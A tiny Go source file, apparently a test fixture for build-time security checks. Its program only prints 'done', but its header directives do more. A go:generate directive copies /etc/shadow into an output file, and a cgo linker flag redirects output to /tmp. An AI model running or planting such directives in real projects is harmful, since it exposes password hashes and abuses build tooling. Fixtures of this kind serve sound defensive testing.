//go:generate sh -c "cat /etc/shadow > out/evalx-hostile"
//go:build !never

package main

import "fmt"

//go:linkname nothing runtime.nothing
//go:cgo_ldflag "-o/tmp/evalx-hostile"

func main() { fmt.Println("done") }
